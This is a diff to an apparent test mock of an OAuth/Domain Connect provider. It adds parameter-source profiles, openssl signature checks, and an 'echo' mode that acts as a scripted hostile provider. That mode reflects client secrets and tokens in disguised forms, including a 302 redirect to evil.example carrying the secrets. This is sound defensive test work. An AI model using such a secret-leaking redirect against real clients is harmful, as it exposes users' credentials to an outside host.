@@ -33,16 +33,44 @@ Routes (each may sit under one of config["prefixes"], e.g. "/dc/v1"):
   POST /_admin/revoke   {"access_token": T} revokes T (stands in for the
        user revoking access in the provider's UI, docs/protocol.md §3.7).
 
+Profiles (config["profiles"][prefix], the prefix also listed in
+config["prefixes"]): the same routes under a prefix behave as a provider
+that reads its parameters one way only:
+  "apply_params": "query"  apply/revert parameters from the query ONLY
+                 "body"   from a JSON body ONLY (else: both, merged)
+  "refresh_creds": "query" a refresh's client_id/client_secret from the
+                 query ONLY (401 invalid_client otherwise), as the provider
+                 the reference client had to satisfy
+  "verify_sig": FILE       apply must carry key and sig in its query; the
+                 signature over the rest of the query (as sent) is checked
+                 with openssl and the public key FILE (tests/data/vectors);
+                 missing or bad: 400 invalid_request
+  "echo": true             a scripted hostile provider that echoes the
+                 secrets it receives (client secret and code or refresh
+                 token at the token endpoint; the bearer token at apply and
+                 revert) in its answer, chosen by the code's / refresh
+                 token's / serviceId's mode prefix ("MODE." or "echo-MODE"):
+                 loc (302, secrets in the Location path, upper-cased and
+                 percent-encoded too), upper, split (across error and
+                 error_description), ctl (a control byte inside), cut (at the
+                 160-byte cut of error_description), c409 (a 409 body
+                 echoing the bearer token in message and record data).
+
 State (codes used, tokens, applied templates) lives in memory per server
 process, inside the config dict httpsd passes to every call.
 """
+import base64
 import json
+import os
 import secrets
+import subprocess
+import tempfile
 import threading
 import time
 import urllib.parse
 
 _LOCK = threading.Lock()
+HERE = os.path.dirname(os.path.abspath(__file__))
 
 
 def _state(config):
@@ -53,14 +81,109 @@ def _state(config):
     return st
 
 
-def _split_prefix(path, config):
-    """Returns the path with a configured prefix removed, or None."""
+def _split_prefix2(path, config):
+    """(prefix, path with the prefix removed), or (None, None)."""
     for pre in sorted(config.get("prefixes", [""]), key=len, reverse=True):
         if pre and path.startswith(pre + "/v2/"):
-            return path[len(pre):]
+            return pre, path[len(pre):]
         if not pre and path.startswith("/v2/"):
-            return path
-    return None
+            return "", path
+    return None, None
+
+
+def _split_prefix(path, config):
+    """Returns the path with a configured prefix removed, or None."""
+    return _split_prefix2(path, config)[1]
+
+
+def _params_only(query, headers, body, where):
+    """Parameters from one place only: "query" or "body" (JSON)."""
+    if where == "query":
+        return {k: v[-1] for k, v in query.items()}
+    return _params({}, headers, body) if body else {}
+
+
+# ---- the scripted hostile provider (profile "echo")
+
+def _echo_mode(value):
+    for mode in ("loc", "upper", "split", "ctl", "cut", "c409"):
+        if value.startswith(mode + ".") or value.startswith("echo-" + mode):
+            return mode
+    return "upper"
+
+
+def _echo(h, mode, secret_list):
+    """Answers with every secret of secret_list echoed as `mode` says."""
+    sl = [s for s in secret_list if s]
+    if mode == "loc":
+        path = "/".join([s for s in sl] + [s.upper() for s in sl] +
+                        ["".join("%%%02X" % ord(ch) for ch in s) for s in sl])
+        h.send_json(302, {"moved": True},
+                    [("Location", "https://evil.example/" + path + "?x=" + sl[0])])
+        return True
+    if mode == "split":
+        # the second half of each secret opens the description; the first
+        # ends the error code: each half alone is a piece of its own
+        err = sl[0][:len(sl[0]) // 2]
+        desc = sl[0][len(sl[0]) // 2:] + " and " + " ".join(sl[1:])
+        h.send_json(400, {"error": err, "error_description": desc})
+        return True
+    if mode == "ctl":
+        desc = " ".join(s[:5] + "\x01" + s[5:] for s in sl)
+        h.send_json(400, {"error": "invalid_request", "error_description": desc})
+        return True
+    if mode == "cut":
+        # the first secret straddles the 160-byte cut of error_description
+        pad = "p" * (160 - len(sl[0]) // 2)
+        h.send_json(400, {"error": "invalid_request",
+                          "error_description": pad + sl[0] + " " + " ".join(sl[1:])})
+        return True
+    if mode == "c409":
+        h.send_json(409, {"code": "409", "message": "conflict with " + sl[0],
+                          "records": [{"type": "TXT", "host": sl[0][:12],
+                                       "data": sl[0].upper()},
+                                      {"type": "A", "host": "@", "data": sl[0]}]})
+        return True
+    h.send_json(400, {"error": "invalid_request",
+                      "error_description": "echo " + " ".join(s.upper() for s in sl)})
+    return True
+
+
+def _echo_token(h, query, headers, body):
+    p = _params(query, headers, body) or {}
+    grant = p.get("code") or p.get("refresh_token") or ""
+    return _echo(h, _echo_mode(grant), [p.get("client_secret", ""), grant])
+
+
+def _echo_bearer(h, service, headers):
+    auth = headers.get("authorization", "")
+    tok = auth[7:].strip() if auth.lower().startswith("bearer ") else ""
+    return _echo(h, _echo_mode(service), [tok])
+
+
+# ---- signature check (profile "verify_sig")
+
+def _sig_problem(raw_query, pubkey):
+    """None when the query carries a valid key/sig pair, else why not."""
+    pairs = raw_query.split("&") if raw_query else []
+    sig = [p[4:] for p in pairs if p.startswith("sig=")]
+    key = [p[4:] for p in pairs if p.startswith("key=")]
+    if len(sig) != 1 or len(key) != 1:
+        return "signature missing"
+    signed = "&".join(p for p in pairs
+                      if not p.startswith("sig=") and not p.startswith("key="))
+    try:
+        raw = base64.b64decode(urllib.parse.unquote(sig[0]), validate=True)
+    except ValueError:
+        return "signature is not base64"
+    with tempfile.NamedTemporaryFile() as f:
+        f.write(raw)
+        f.flush()
+        r = subprocess.run(["openssl", "dgst", "-sha256", "-verify",
+                            os.path.join(HERE, "..", "data", "vectors", pubkey),
+                            "-signature", f.name], input=signed.encode(),
+                           capture_output=True, check=False)
+    return None if r.returncode == 0 else "signature invalid"
 
 
 def _params(query, headers, body):
@@ -128,7 +251,8 @@ def _oauth_error(h, status, error, desc):
 
 
 def _issue(config, st, client_id, domain, rotate_from=None):
-    life = int(config.get("token_lifetime", 3600))
+    life = int(config["clients"][client_id].get("token_lifetime",
+                                                config.get("token_lifetime", 3600)))
     access = "at-" + secrets.token_urlsafe(24)
     st["access"][access] = {"client_id": client_id, "domain": domain,
                             "expires": time.time() + life, "revoked": False}
@@ -143,13 +267,19 @@ def _issue(config, st, client_id, domain, rotate_from=None):
     return resp
 
 
-def _token(h, query, headers, body, config):
+def _token(h, query, headers, body, config, profile=None):
+    profile = profile or {}
+    if profile.get("echo"):
+        return _echo_token(h, query, headers, body)
     p = _params(query, headers, body)
     if p is None:
         return _oauth_error(h, 400, "invalid_request", "body is not JSON")
     clients = config.get("clients", {})
-    cid = p.get("client_id")
-    if cid not in clients or p.get("client_secret") != clients[cid]["secret"]:
+    cred = p
+    if profile.get("refresh_creds") == "query" and p.get("grant_type") == "refresh_token":
+        cred = {k: v[-1] for k, v in query.items()}
+    cid = cred.get("client_id")
+    if cid not in clients or cred.get("client_secret") != clients[cid]["secret"]:
         return _oauth_error(h, 401, "invalid_client", "client authentication failed")
     if "code" in p and "refresh_token" in p:
         return _oauth_error(h, 400, "invalid_request", "code and refresh_token together")
@@ -191,7 +321,11 @@ def _bearer(headers, st):
     return info
 
 
-def _apply_or_revert(h, provider, service, op, query, headers, body, config):
+def _apply_or_revert(h, provider, service, op, query, headers, body, config,
+                     profile=None):
+    profile = profile or {}
+    if profile.get("echo"):
+        return _echo_bearer(h, service, headers)
     with _LOCK:
         info = _bearer(headers, _state(config))
     if info is None:
@@ -199,9 +333,16 @@ def _apply_or_revert(h, provider, service, op, query, headers, body, config):
                           "error_description": "token unknown, expired or revoked"},
                     [("WWW-Authenticate", 'Bearer error="invalid_token"')])
         return True
-    p = _params(query, headers, body)
+    if profile.get("apply_params") in ("query", "body"):
+        p = _params_only(query, headers, body, profile["apply_params"])
+    else:
+        p = _params(query, headers, body)
     if p is None or not isinstance(p.get("domain"), str) or not p["domain"]:
         return _oauth_error(h, 400, "invalid_request", "domain missing")
+    if op == "apply" and profile.get("verify_sig"):
+        why = _sig_problem(h.raw_query, profile["verify_sig"])
+        if why is not None:
+            return _oauth_error(h, 400, "invalid_request", why)
     if info.get("domain") and p["domain"] != info["domain"]:
         return _oauth_error(h, 401, "access_denied", "domain not authorized")
     beh = config.get("apply_behaviours", {}).get(service, {})
@@ -257,9 +398,10 @@ def handle(handler, method, path, query, headers, body, config):
                 info["revoked"] = True
         handler.send_json(200 if info else 404, {"revoked": info is not None})
         return True
-    rest = _split_prefix(path, config)
+    pre, rest = _split_prefix2(path, config)
     if rest is None:
         return False
+    profile = config.get("profiles", {}).get(pre)
     parts = rest.split("/")  # ["", "v2", ...]
     if method == "GET" and len(parts) == 4 and parts[3] == "settings":
         return _settings(handler, urllib.parse.unquote(parts[2]), config)
@@ -270,8 +412,8 @@ def handle(handler, method, path, query, headers, body, config):
             return _template(handler, provider, service, config)
         if method == "POST" and len(parts) == 8 and parts[7] in ("apply", "revert"):
             return _apply_or_revert(handler, provider, service, parts[7], query,
-                                    headers, body, config)
+                                    headers, body, config, profile)
         return False
     if method == "POST" and rest == "/v2/oauth/access_token":
-        return _token(handler, query, headers, body, config)
+        return _token(handler, query, headers, body, config, profile)
     return False
